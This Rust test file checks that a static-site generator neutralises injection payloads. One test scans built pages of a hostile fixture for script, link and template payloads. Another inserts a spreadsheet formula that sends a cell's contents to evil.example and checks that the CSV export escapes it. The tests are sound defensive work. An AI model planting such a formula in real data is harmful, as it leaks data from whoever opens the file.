//! The hostile fixture (`tests/fixtures/hostile`): every text field and Markdown body
//! carries script, attribute-breaking, `javascript:`/`data:` link and template
//! payloads. The real binary builds it and every page's markup is scanned, tag by
//! tag, for anything a payload could have smuggled in.

use crate::common;
use crate::common::html;

use std::path::Path;
use std::process::Command;

const BIN: &str = env!("CARGO_BIN_EXE_greenproc");
const MANIFEST: &str = env!("CARGO_MANIFEST_DIR");

#[test]
fn hostile_site_builds_with_headers_and_no_payload_becomes_markup() {
    let root = tempfile::tempdir().unwrap();
    common::copy_dir(
        &Path::new(MANIFEST).join("tests/fixtures/hostile"),
        root.path(),
    );
    let check = Command::new(BIN)
        .args(["check", "--root"])
        .arg(root.path())
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "check failed:\n{}",
        String::from_utf8_lossy(&check.stderr)
    );
    let output = root.path().join("out");
    common::assert_success(&common::build(root.path(), &output, &[]));

    // The hosts' headers file carries the policy the browser tests hold pages to.
    let headers = std::fs::read_to_string(output.join("_headers")).unwrap();
    assert!(
        headers.lines().any(|line| line.trim()
            == "Content-Security-Policy: default-src 'self'; script-src 'self'; \
                style-src 'self'; img-src 'self' data:; object-src 'none'; base-uri 'none'; \
                form-action 'self'; frame-ancestors 'none'"),
        "_headers lacks the CSP:\n{headers}"
    );

    let mut pages = 0;
    let mut literal_templates = 0;
    let mut found = Vec::new();
    for entry in walkdir::WalkDir::new(&output) {
        let entry = entry.unwrap();
        if entry.path().extension().is_none_or(|e| e != "html") {
            continue;
        }
        pages += 1;
        let html = std::fs::read_to_string(entry.path()).unwrap();
        let name = entry.path().strip_prefix(&output).unwrap().display();
        found.extend(
            html::problems(&html, html::Scope::Page)
                .into_iter()
                .map(|p| format!("{name}: {p}")),
        );
        // The payload puts `{% raw %}` right after `{{ 7*7 }}`: wherever the one
        // survives, the other must too, never evaluated to 49.
        let raw = html.matches("{% raw %}").count();
        let literal = html.matches("{{ 7*7 }}").count();
        if literal < raw || html.contains("49 {% raw %}") {
            found.push(format!("{name}: template syntax evaluated"));
        }
        literal_templates += literal;
    }
    assert!(pages > 50, "only {pages} pages built");
    assert!(literal_templates > 0, "no page shows the template payload");
    assert!(
        found.is_empty(),
        "payloads got through:\n{}",
        found.join("\n")
    );
}

/// An organization named like a spreadsheet formula, and findings that start with a
/// minus: the CSV neutralizes both with an apostrophe, so that a spreadsheet shows them
/// as text; JSON keeps them as written.
#[test]
fn csv_cells_that_a_spreadsheet_would_run_are_text() {
    let root = tempfile::tempdir().unwrap();
    common::copy_dir(
        &Path::new(MANIFEST).join("tests/fixtures/mini"),
        root.path(),
    );
    let formula = r#"=HYPERLINK("https://evil.example/?d="&C2,"查看证书")"#;
    let org = root.path().join("data/orgs/zd-materials.yaml");
    let text = std::fs::read_to_string(&org).unwrap();
    let named = text.replacen(
        "name: 张店示例新型建材有限公司",
        &format!("name: '{formula}'"),
        1,
    );
    assert_ne!(named, text);
    std::fs::write(&org, named).unwrap();
    let inspection = root.path().join("data/inspections/insp-2025-001.yaml");
    let text = std::fs::read_to_string(&inspection).unwrap();
    std::fs::write(
        &inspection,
        text.replace(
            "findings: 抽查证书均在有效期内。",
            "findings: '-2+3 份证书过期'",
        ),
    )
    .unwrap();
    let output = root.path().join("out");
    common::assert_success(&common::build(root.path(), &output, &[]));
    let csv = std::fs::read_to_string(output.join("data/organizations.csv")).unwrap();
    let quoted = formula.replace('"', "\"\"");
    assert!(csv.contains(&format!("\"'{quoted}\"")), "{csv}");
    assert!(!csv.contains(&format!(",\"{quoted}")), "{csv}");
    let findings = std::fs::read_to_string(output.join("data/inspections.csv")).unwrap();
    assert!(findings.contains(",'-2+3 份证书过期"), "{findings}");
    let json = std::fs::read_to_string(output.join("data/organizations.json")).unwrap();
    assert!(
        json.contains(&formula.replace('"', "\\\"")),
        "JSON keeps the value"
    );
}
